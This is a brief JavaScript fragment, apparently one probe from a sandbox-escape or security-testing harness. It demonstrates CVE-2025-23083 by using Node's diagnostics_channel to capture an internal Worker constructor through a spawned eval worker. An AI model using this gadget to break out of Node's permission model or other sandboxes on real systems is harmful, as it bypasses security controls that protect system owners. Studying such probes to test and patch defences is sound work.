// CVE-2025-23083
// Diagnostics_channel hands out internal workers.
try {
    const channel = await import('node:diagnostics_channel');
    let Internal;
    channel.subscribe('worker_threads', ({ worker }) => { Internal = worker.constructor; });
    const { Worker } = await import('node:worker_threads');
    new Worker('0', { eval: true });
    await useObject(Internal);
} catch {}
return found;
